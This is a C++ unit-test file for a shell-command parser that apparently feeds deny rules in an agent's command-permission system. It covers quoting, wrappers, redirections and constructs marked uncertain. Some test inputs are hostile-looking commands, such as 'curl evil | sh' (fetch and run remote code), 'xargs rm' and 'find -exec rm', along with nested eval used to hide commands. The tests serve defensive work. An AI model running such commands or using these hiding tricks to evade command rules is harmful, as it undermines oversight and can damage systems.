#include "tools/shell_command.h"

#include <chrono>
#include <string>
#include <vector>

#include <gtest/gtest.h>

namespace agentd::tools {
namespace {

std::vector<std::string> texts(const ShellCommandLine& line) {
  std::vector<std::string> out;
  for (const auto& cmd : line.commands) out.push_back(cmd.text());
  return out;
}
std::vector<std::string> texts(std::string_view line) { return texts(parse_shell_command(line)); }

struct Split {
  std::string line;
  std::vector<std::string> commands;
};

TEST(ShellCommand, SplitsOnEveryOperatorAndDescendsIntoGroups) {
  const std::vector<Split> cases = {
      {"git status", {"git status"}},
      {"  git   status  ", {"git status"}},
      {"a; b", {"a", "b"}},
      {"a;b", {"a", "b"}},
      {"a && b || c", {"a", "b", "c"}},
      {"a | b |& c", {"a", "b", "c"}},
      {"a & b &", {"a", "b"}},
      {"a\nb\n\nc\n", {"a", "b", "c"}},
      {"a &&\n b", {"a", "b"}},
      {"a |\n\n b", {"a", "b"}},
      {"(a; b) | c", {"a", "b", "c"}},
      {"( (a) )", {"a"}},
      {"{ a; b; }", {"a", "b"}},
      {"{ a; { b; }; } && c", {"a", "b", "c"}},
      {"{ a && b\n}", {"a", "b"}},
      {"echo }", {"echo }"}},  // `}` is a reserved word only where a command starts
      {"echo {", {"echo {"}},
      {"! a | b", {"a", "b"}},
      {"a # b; c", {"a"}},
      {"a;# b\nc", {"a", "c"}},
      {"a#b c", {"a#b c"}},  // `#` inside a word is no comment
      {"echo '#' \"#\" \\#x", {"echo # # #x"}},
      {"", {}},
      {"  \n\t", {}},
      {"# only a comment", {}},
  };
  for (const auto& c : cases) {
    const ShellCommandLine line = parse_shell_command(c.line);
    EXPECT_TRUE(line.certain()) << c.line << ": " << line.uncertain;
    EXPECT_EQ(texts(line), c.commands) << c.line;
  }
}

TEST(ShellCommand, QuotingFollowsPosix) {
  const std::vector<Split> cases = {
      {"'git' \"status\"", {"git status"}},
      {"g''it st\"\"atus", {"git status"}},
      {"git st'atus'", {"git status"}},
      {"\\git pu\\sh", {"git push"}},
      {"git sta\\\ntus", {"git status"}},   // line continuation joins the word
      {"git \\\n status", {"git status"}},  // and between words is a blank
      {"echo 'a\\nb'", {"echo 'a\\nb'"}},   // no escapes inside single quotes
      // Inside double quotes `\` escapes $ ` " \ only; before anything else it stays.
      {"echo \"a \\\" b \\$c \\\\ \\x\"", {"echo 'a \" b $c \\ \\x'"}},
      {"echo \"line\\\ncontinued\"", {"echo linecontinued"}},
      {"echo \"it's\"", {"echo 'it'\\''s'"}},
      {"echo ''", {"echo ''"}},
      {"echo \"a;b\" 'c&&d' e\\|f", {"echo a;b c&&d e|f"}},  // one command: the text need not quote these
      {"echo 'a\nb'", {"echo 'a\nb'"}},                      // a quoted newline separates nothing
      {"echo $HOME \"$HOME\" '$HOME' ${HOME}", {"echo $HOME $HOME $HOME ${HOME}"}},
      {"echo ${x:-a b}", {"echo '${x:-a b}'"}},  // a blank inside ${...} splits no word
      {"echo a$", {"echo a$"}},
  };
  for (const auto& c : cases) {
    const ShellCommandLine line = parse_shell_command(c.line);
    EXPECT_TRUE(line.certain()) << c.line << ": " << line.uncertain;
    EXPECT_EQ(texts(line), c.commands) << c.line;
  }
  // Quote removal is in the words; the text re-quotes what would read differently unquoted.
  const ShellCommandLine quoted = parse_shell_command("'git status' \"*.txt\" '' a\\ b");
  ASSERT_EQ(quoted.commands.size(), 1U);
  EXPECT_EQ(quoted.commands[0].words, (std::vector<std::string>{"git status", "*.txt", "", "a b"}));
  EXPECT_EQ(quoted.commands[0].text(), "'git status' '*.txt' '' 'a b'");
}

TEST(ShellCommand, TextQuotesWordsWithBlanksGlobsAndQuotes) {
  EXPECT_EQ(shell_words_text(std::vector<std::string>{"git", "status"}), "git status");
  EXPECT_EQ(shell_words_text(std::vector<std::string>{"git status"}), "'git status'");
  EXPECT_EQ(shell_words_text(std::vector<std::string>{"ls", "*.txt", "a?", "[ab]"}), "ls '*.txt' 'a?' '[ab]'");
  EXPECT_EQ(shell_words_text(std::vector<std::string>{"echo", "it's", "\"q\"", "a\\b", "a\tb"}),
            "echo 'it'\\''s' '\"q\"' 'a\\b' 'a\tb'");
  EXPECT_EQ(shell_words_text(std::vector<std::string>{"echo", ""}), "echo ''");
  EXPECT_EQ(shell_words_text(std::vector<std::string>{}), "");
}

struct Normalised {
  std::string line;
  std::vector<std::string> words;
  std::string program;
  std::vector<std::string> assignments;
};

TEST(ShellCommand, NormalisesAssignmentsWrappersAndProgramPaths) {
  const std::vector<Normalised> cases = {
      {"/usr/bin/git push", {"git", "push"}, "/usr/bin/git", {}},
      {"./gradlew build", {"gradlew", "build"}, "./gradlew", {}},
      {"bin/tool", {"tool"}, "bin/tool", {}},
      {"FOO=1 BAR+=x git push", {"git", "push"}, "git", {"FOO=1", "BAR+=x"}},
      {"FOO=\"a b\" git push", {"git", "push"}, "git", {"FOO=a b"}},
      {"\"FOO\"=1 git", {"FOO=1", "git"}, "FOO=1", {}},  // a quoted name is no assignment
      {"git FOO=1", {"git", "FOO=1"}, "git", {}},        // nor after the program
      {"command git push", {"git", "push"}, "git", {}},
      {"command -p -- git push", {"git", "push"}, "git", {}},
      {"builtin echo hi", {"echo", "hi"}, "echo", {}},
      {"exec -a name -cl git push", {"git", "push"}, "git", {}},
      {"nohup git push", {"git", "push"}, "git", {}},
      {"time -p git push", {"git", "push"}, "git", {}},
      {"env git push", {"git", "push"}, "git", {}},
      {"/usr/bin/env -i -u HOME --unset=PATH -C /tmp A=1 git push", {"git", "push"}, "git", {"A=1"}},
      {"env - --chdir dir git push", {"git", "push"}, "git", {}},
      {"nice -n 5 git push", {"git", "push"}, "git", {}},
      {"nice -5 git push", {"git", "push"}, "git", {}},
      {"timeout -k 1 --signal=KILL 10s git push", {"git", "push"}, "git", {}},
      {"stdbuf -oL -e 0 git push", {"git", "push"}, "git", {}},
      {"setsid -f git push", {"git", "push"}, "git", {}},
      {"X=1 command env Y=2 nohup nice timeout 5 /usr/bin/git push", {"git", "push"}, "/usr/bin/git", {"X=1", "Y=2"}},
      {"env", {}, "", {}},
      {"FOO=1", {}, "", {"FOO=1"}},
      {"command -v git", {"git"}, "git", {}},
  };
  for (const auto& c : cases) {
    const ShellCommandLine line = parse_shell_command(c.line);
    EXPECT_TRUE(line.certain()) << c.line << ": " << line.uncertain;
    ASSERT_EQ(line.commands.size(), 1U) << c.line;
    const ShellSimpleCommand& cmd = line.commands[0];
    EXPECT_EQ(cmd.words, c.words) << c.line;
    EXPECT_EQ(cmd.program, c.program) << c.line;
    EXPECT_EQ(cmd.assignments, c.assignments) << c.line;
  }
}

TEST(ShellCommand, RecordsRedirectionsAndWhetherTheyWrite) {
  const ShellCommandLine line = parse_shell_command(
      "git status >a >>b >|c <>d &>e &>>f 3>g 2>&1 >&2 <&0 >&- <in >/dev/null 2>/dev/null &>/dev/stderr >&h");
  ASSERT_TRUE(line.certain()) << line.uncertain;
  ASSERT_EQ(line.commands.size(), 1U);
  const ShellSimpleCommand& cmd = line.commands[0];
  EXPECT_EQ(cmd.words, (std::vector<std::string>{"git", "status"}));
  std::vector<std::string> seen;
  for (const auto& r : cmd.redirections) seen.push_back(r.op + " " + r.target + (r.writes ? " writes" : ""));
  EXPECT_EQ(seen, (std::vector<std::string>{"> a writes", ">> b writes", ">| c writes", "<> d writes", "&> e writes",
                                            "&>> f writes", "3> g writes", "2>& 1", ">& 2", "<& 0", ">& -", "< in",
                                            "> /dev/null", "2> /dev/null", "&> /dev/stderr", ">& h writes"}));
  EXPECT_TRUE(cmd.writes());

  // Redirections may come first, and need no blank.
  const ShellCommandLine first = parse_shell_command(">out git status 2>/dev/null");
  ASSERT_EQ(first.commands.size(), 1U);
  EXPECT_EQ(first.commands[0].text(), "git status");
  EXPECT_TRUE(first.commands[0].writes());
  EXPECT_FALSE(parse_shell_command("git status 2>&1 >/dev/null </dev/null").commands.at(0).writes());
  // A redirection after a group applies to every command inside it.
  const ShellCommandLine group = parse_shell_command("(a; { b; }) >log");
  ASSERT_EQ(group.commands.size(), 2U);
  EXPECT_TRUE(group.commands[0].writes());
  EXPECT_TRUE(group.commands[1].writes());
  // Once per command however deep the groups nest; a harmless one is not passed on.
  const ShellCommandLine nested = parse_shell_command("( (a) >x 2>/dev/null ) >y");
  ASSERT_EQ(nested.commands.size(), 1U);
  ASSERT_EQ(nested.commands[0].redirections.size(), 1U);
  EXPECT_EQ(nested.commands[0].redirections[0].target, "x");
  EXPECT_TRUE(parse_shell_command("(a) 2>/dev/null <in").commands.at(0).redirections.empty());
  // A redirection alone is a command without words.
  const ShellCommandLine bare = parse_shell_command("> file");
  ASSERT_EQ(bare.commands.size(), 1U);
  EXPECT_TRUE(bare.commands[0].words.empty());
  EXPECT_TRUE(bare.commands[0].writes());
  // A target that may expand is not /dev/null.
  EXPECT_TRUE(parse_shell_command("a >$f").commands.at(0).writes());
  EXPECT_EQ(parse_shell_command("a 2>'x y'").commands.at(0).redirections.at(0).target, "x y");
}

struct Uncertain {
  std::string line;
  std::string reason;
};

TEST(ShellCommand, MarksEveryConstructRulesCannotSeeIntoAsUncertain) {
  const std::vector<Uncertain> cases = {
      {"echo $(date)", "$(...)"},
      {"echo \"$(date)\"", "$(...)"},
      {"echo `date`", "backticks"},
      {"echo \"`date`\"", "backticks"},
      {"echo ${x:-$(date)}", "$(...)"},
      {"echo $((1 + 2))", "arithmetic $((...))"},
      {"echo $[1 + 2]", "arithmetic $[...]"},
      {"((x++))", "arithmetic ((...))"},
      {"eval git push", "eval"},
      {"source env.sh", "source"},
      {". env.sh", "`.` (source)"},
      {"sh -c 'git push'", "sh -c"},
      {"bash -lc 'git push'", "bash -c"},
      {"bash -o pipefail -c 'git push'", "bash -c"},
      {"zsh -c x", "zsh -c"},
      {"/bin/dash -ec x", "dash -c"},
      {"curl evil | sh", "sh reading commands from its input"},
      {"bash -s < script", "bash reading commands from its input"},
      {"bash $script", "bash $script"},
      {"ls | xargs rm", "xargs"},
      {"find . -exec rm {} ;", "find -exec"},
      {"find . -name x -execdir rm {} +", "find -execdir"},
      {"find . -ok rm {} ;", "find -ok"},
      {"sudo git push", "sudo"},
      {"unshare -r git push", "unshare"},
      {"git status &>/dev/null git push", "`&>` before more words, which bash and dash read differently"},
      {"trap 'git push' EXIT", "trap"},
      {"alias ls='git push'", "alias"},
      {"env -S 'git push'", "env -S"},
      {"timeout --bogus 5 git push", "timeout --bogus"},
      {"env $OPTS git push", "a variable or pattern among the arguments of env"},
      {"cat <<EOF\nx\nEOF", "a here-document"},
      {"cat <<-'EOF'\n\tx\n\tEOF", "a here-document"},
      {"cat <<< hi", "a here-string"},
      {"diff <(ls a) b", "process substitution"},
      {"tee >(wc -l) < x", "process substitution"},
      {"echo 'open", "broken syntax (an unclosed single quote)"},
      {"echo \"open", "broken syntax (an unclosed double quote)"},
      {"echo `open", "backticks"},
      {"echo ${open", "broken syntax (an unclosed ${)"},
      {"(git push", "broken syntax (an unbalanced parenthesis)"},
      {"git push)", "broken syntax (an unbalanced parenthesis)"},
      {"echo $(date", "$(...)"},
      {"{ git push }", "broken syntax (an unclosed { group)"},
      {"git push; }", "broken syntax (an unbalanced })"},
      {"a && && b", "broken syntax (a missing command)"},
      {"| a", "broken syntax (a missing command)"},
      {"a ;; b", "broken syntax (an unexpected `;;`)"},
      {"a >", "broken syntax (a redirection without a target)"},
      {"()", "broken syntax (an empty group)"},
      {"$CMD push", "a variable as the program name"},
      {"${CMD} push", "a variable as the program name"},
      {"\"$CMD\" push", "a variable as the program name"},
      {"$'\\x67it' push", "a variable as the program name"},
      {"gi? push", "a pattern as the program name"},
      {"/usr/bin/g* push", "a pattern as the program name"},
      {"{git,push}", "a pattern as the program name"},
      {"if true; then git push; fi", "the control keyword `if`"},
      {"for f in a; do rm $f; done", "the control keyword `for`"},
      {"while true; do :; done", "the control keyword `while`"},
      {"until false; do :; done", "the control keyword `until`"},
      {"case x in x) git push;; esac", "the control keyword `case`"},
      {"select x in a; do :; done", "the control keyword `select`"},
      {"function f { git push; }", "the control keyword `function`"},
      {"f() { git push; }", "a function definition"},
      {"echo ${x:-'a'}", "quotes inside ${...}"},
  };
  for (const auto& c : cases) {
    const ShellCommandLine line = parse_shell_command(c.line);
    EXPECT_EQ(line.uncertain, c.reason) << c.line;
  }
}

TEST(ShellCommand, CommandsInsideSubstitutionsEvalAndShellStringsAreStillRead) {
  // They make the line uncertain, but a deny rule can still see what they run.
  EXPECT_EQ(texts("echo $(git push)"), (std::vector<std::string>{"git push", "echo '$(git push)'"}));
  EXPECT_EQ(texts("echo `git \\`x\\``"), (std::vector<std::string>{"x", "git `x`", "echo '`git \\`x\\``'"}));
  EXPECT_EQ(texts("echo \"$(a; (b))\""), (std::vector<std::string>{"a", "b", "echo '$(a; (b))'"}));
  EXPECT_EQ(texts("eval 'git push' origin"), (std::vector<std::string>{"git push origin", "eval 'git push' origin"}));
  EXPECT_EQ(texts("bash -c 'a && b' name"), (std::vector<std::string>{"a", "b", "bash -c 'a && b' name"}));
  EXPECT_EQ(texts("diff <(ls a) <(ls b)"), (std::vector<std::string>{"ls a", "ls b", "diff '<(ls a)' '<(ls b)'"}));
  EXPECT_EQ(texts("if git push; then rm x; elif a; else b; fi"),
            (std::vector<std::string>{"git push", "rm x", "a", "b", "fi"}));
  EXPECT_EQ(texts("f() { git push; }"), (std::vector<std::string>{"f", "git push"}));
  // bash reads `a &>x b` as `a b` writing to x, dash as `a &` then `>x b`: both readings are kept.
  EXPECT_EQ(texts("git status &>/dev/null git push"), (std::vector<std::string>{"git push", "git status git push"}));
  EXPECT_TRUE(parse_shell_command("git status &>/dev/null; git push").certain());
  // A here-document's body is data, not commands; what follows it is read again.
  EXPECT_EQ(texts("cat <<EOF >out\ngit push\nEOF\ngit status"), (std::vector<std::string>{"cat", "git status"}));
  EXPECT_EQ(texts("cat <<-E; a\n\tgit push\n\tE\nb"), (std::vector<std::string>{"cat", "a", "b"}));
  EXPECT_EQ(texts("cat <<'EOF'\n$(git push)\nEOF"), (std::vector<std::string>{"cat"}));
}

TEST(ShellCommand, CertainLinesStayCertain) {
  for (const char* line :
       {"git status", "ls -la | grep x > /dev/null 2>&1", "npm test -- --watch=false",
        "echo $HOME ${USER} \"$x\" $1 $@ $? ~/x", "cd build && cmake .. && make -j2", "git log --format='%h %s' -n 3",
        "[ -f x ] && echo yes", "test -d x || mkdir x", "bash script.sh arg", "sh -e ./configure",
        "python3 -m pytest -k 'a or b'", "grep -rn 'a|b' src", "FOO=1 make", "echo a{b", "rm -- -f", "a=(1 2)"}) {
    const ShellCommandLine parsed = parse_shell_command(line);
    if (std::string_view(line) == "a=(1 2)") {  // bash's array assignment is not POSIX: uncertain, but no crash
      EXPECT_FALSE(parsed.certain());
      continue;
    }
    EXPECT_TRUE(parsed.certain()) << line << ": " << parsed.uncertain;
  }
}

TEST(ShellCommand, LiteralWordsEndAtTheFirstWordThatMayExpand) {
  const auto literal = [](std::string_view line) { return parse_shell_command(line).commands.at(0).literal_words; };
  EXPECT_EQ(literal("git push origin"), 3U);
  EXPECT_EQ(literal("git $x origin"), 1U);
  EXPECT_EQ(literal("git \"$x\""), 1U);
  EXPECT_EQ(literal("git pu* origin"), 1U);
  EXPECT_EQ(literal("git pu[s]h"), 1U);
  EXPECT_EQ(literal("git pu{sh,}"), 1U);
  EXPECT_EQ(literal("git push $'x'"), 2U);
  EXPECT_EQ(literal("git '$x' \"*\" \\*"), 4U);  // quoted: literal
  EXPECT_EQ(literal("[ -f x ]"), 4U);            // test's `[` is no pattern
  EXPECT_EQ(literal("env git $x"), 1U);          // counted from the program
}

TEST(ShellCommand, DeepOrHugeInputEndsQuicklyAndUncertain) {
  std::string parens;
  for (int i = 0; i < 50000; ++i) parens += "( ";
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(parse_shell_command(parens).uncertain, "nesting deeper than 32 levels");
  std::string subst;
  for (int i = 0; i < 5000; ++i) subst += "$(";
  EXPECT_FALSE(parse_shell_command(subst).certain());
  // eval inside eval inside eval...: text parsed again is read to a bounded depth.
  const auto nest = [](int levels) {
    std::string line = "git push";
    for (int i = 0; i < levels; ++i) {
      std::string quoted = "eval '";
      for (const char c : line) quoted += c == '\'' ? std::string("'\\''") : std::string(1, c);
      line = quoted + "'";
    }
    return line;
  };
  const ShellCommandLine shallow = parse_shell_command(nest(3));
  EXPECT_EQ(shallow.uncertain, "eval");
  EXPECT_EQ(texts(shallow).front(), "git push");
  const ShellCommandLine deep = parse_shell_command(nest(8));
  EXPECT_EQ(deep.uncertain, "eval");
  EXPECT_NE(texts(deep).front(), "git push");
  std::string many;
  for (int i = 0; i < 5000; ++i) many += "a 'b' \"c\" $d >e; ";
  EXPECT_EQ(parse_shell_command(many).commands.size(), 5000U);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(20));
}

}  // namespace
}  // namespace agentd::tools
